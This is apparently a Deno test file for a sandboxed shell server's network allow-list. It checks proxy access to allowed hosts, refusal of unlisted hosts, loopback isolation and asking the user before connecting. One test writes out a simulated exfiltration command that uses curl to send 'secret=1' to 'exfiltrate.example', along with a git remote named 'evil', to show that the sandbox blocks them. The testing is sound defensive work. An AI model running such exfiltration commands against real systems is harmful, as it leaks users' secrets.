/**
 * The sandbox's network allow-list for real (issue 28): a shell server over stdio, bubblewrap, socat and the
 * proxy. A job reaches an allowed host through the proxy (curl, Deno's fetch), and nothing else: a host not
 * listed gets one refusal line naming it, a loopback listener outside is unreachable directly and through
 * the proxy, and the proxy's own sockets are out of sight and out of reach.
 */
import assert from "node:assert/strict";
import { findOnPath } from "../../../lib/platform/which.ts";
import { spawnShellProcess } from "./server_process.ts";
import { attackFixture, bwrapUsable, git } from "./sandbox_support.ts";
import { waitFor } from "../../_support/poll.ts";

const socat = await findOnPath("socat");
const ignore = !bwrapUsable || !socat || !(await findOnPath("curl"));

/** A loopback HTTP server outside every sandbox that counts the requests it got. */
function upstream() {
  let requests = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
    requests++;
    return new Response("through the proxy\n");
  });
  return { server, port: server.addr.port, requests: () => requests };
}

Deno.test({
  name: "sandbox network: an allowed host is reached through the proxy by curl and Deno's fetch",
  ignore,
  fn: async () => {
    await using fixture = await attackFixture();
    const target = upstream();
    await using _ = target.server;
    // The user allows the upstream's address; loopback is normally direct (NO_PROXY), so the job clears it
    // to go through the proxy, as a job reaching a registry does.
    await using server = await spawnShellProcess({
      cwd: fixture.workspace,
      env: { ...fixture.env, MCP_SANDBOX_DOMAINS: "127.0.0.1" },
    });
    const url = `http://127.0.0.1:${target.port}/`;
    const first = await server.call("shell_run", {
      command: `NO_PROXY= no_proxy= curl -sS --max-time 20 ${url}`,
    });
    assert.match(first, /^exit 0 after [^\n]*\nthrough the proxy$/, first);
    const fetched = await server.call("shell_run", {
      command: `NO_PROXY= no_proxy= ${Deno.execPath()} eval ` +
        `'console.log(await (await fetch("${url}")).text())'`,
    });
    assert.match(fetched, /^exit 0 after [^\n]*\nthrough the proxy\n/, fetched);
    assert.equal(target.requests(), 2);
    // Hundreds of connections in one job: socat's notices about each must not fill a pipe and stall it.
    const many = await server.call("shell_run", {
      command: `NO_PROXY= no_proxy= curl -s --max-time 60 -H 'Connection: close' ` +
        `$(yes ${url} | head -n 400) | grep -c 'through the proxy'`,
      timeout_s: 90,
      wait_s: 50,
    });
    assert.match(many, /^exit 0 after [^\n]*\n400$/, many);
    await waitFor(
      "the log to name the allow-list",
      () => /network allow-list \(\d+ domains\)/.test(server.stderr()),
    );
  },
});

Deno.test({
  name:
    "sandbox network (defaults): a host not listed is refused with one line naming it; loopback stays out",
  ignore,
  fn: async () => {
    await using fixture = await attackFixture();
    const target = upstream();
    await using _ = target.server;
    // A hostile clone names the host's loopback as a remote: its hosts join the list, on public addresses only.
    await git(fixture.workspace, ["remote", "add", "evil", `http://127.0.0.1:${target.port}/x.git`]);
    await using server = await spawnShellProcess({ cwd: fixture.workspace, env: fixture.env });
    const refused = await server.call("shell_run", {
      command: "curl -sS --max-time 20 https://exfiltrate.example/?secret=1",
    });
    assert.match(refused, /^exit 56 after/, refused);
    const lines = refused.split("\n").filter((line) => line.startsWith("[sandbox] refused"));
    assert.deepEqual(lines, [
      '[sandbox] refused a connection to "exfiltrate.example" (not in the allowed domains); the user can ' +
      "allow domains with MCP_SANDBOX_DOMAINS",
    ]);
    // The loopback listener outside: direct (the job's own network namespace has only its own loopback),
    // and through the proxy (listed by the remote, but a workspace's hosts never lead to loopback).
    const loopback = await server.call("shell_run", {
      command: `curl -sS --max-time 10 http://127.0.0.1:${target.port}/; ` +
        `NO_PROXY= no_proxy= curl -sS --max-time 10 http://127.0.0.1:${target.port}/; ` +
        `NO_PROXY= no_proxy= curl -sS --max-time 10 -p http://127.0.0.1:${target.port}/; ` +
        `git ls-remote evil`,
    });
    assert.match(loopback, /^exit [1-9]\d* after/);
    assert.doesNotMatch(loopback, /through the proxy/);
    assert.equal(target.requests(), 0, "a job reached a listener outside");
    // The proxy's sockets: their folder is not in the job's view, and a unix socket cannot even be opened.
    const parent = `/tmp/continue-mcp-sandbox-${Deno.uid()}`;
    const sockets = (await Array.fromAsync(Deno.readDir(parent))).filter((entry) =>
      entry.name.endsWith(".net") && entry.name.includes(`-${server.pid}-`)
    );
    assert.equal(sockets.length, 1, "the proxy's socket folder is where the server keeps it");
    const hidden = await server.call("shell_run", {
      command: `ls ${parent}/${sockets[0].name} || echo HIDDEN; ` +
        `python3 -c "import socket; socket.socket(socket.AF_UNIX)" 2>&1 | tail -n 1`,
    });
    assert.match(hidden, /HIDDEN/);
    assert.match(hidden, /Operation not permitted/);
  },
});

Deno.test({
  name:
    "sandbox network: a host not listed is put to the user when the client elicits; once allows, deny refuses",
  ignore,
  fn: async () => {
    await using fixture = await attackFixture();
    const target = upstream();
    await using _ = target.server;
    const asked: string[] = [];
    let reply = "once";
    await using server = await spawnShellProcess({
      cwd: fixture.workspace,
      env: fixture.env,
      elicit: (params) => {
        asked.push(String(params.message));
        return reply === "deny" ? { action: "decline" } : { action: "accept", content: { answer: reply } };
      },
    });
    const command = `NO_PROXY= no_proxy= curl -fsS --max-time 20 http://127.0.0.1:${target.port}/`;
    assert.match(await server.call("shell_run", { command }), /^exit 0 after [^\n]*\nthrough the proxy$/);
    assert.equal(asked.length, 1);
    assert.match(asked[0], /wants to connect to "127\.0\.0\.1"/);
    // "once" was for that job only: the next asks again, and a declined question is a refusal by name.
    reply = "deny";
    const refused = await server.call("shell_run", { command });
    assert.match(refused, /^exit [1-9]\d* after/);
    assert.match(refused, /\[sandbox\] refused a connection to "127\.0\.0\.1"/);
    assert.equal(asked.length, 2);
    assert.equal(target.requests(), 1);
  },
});
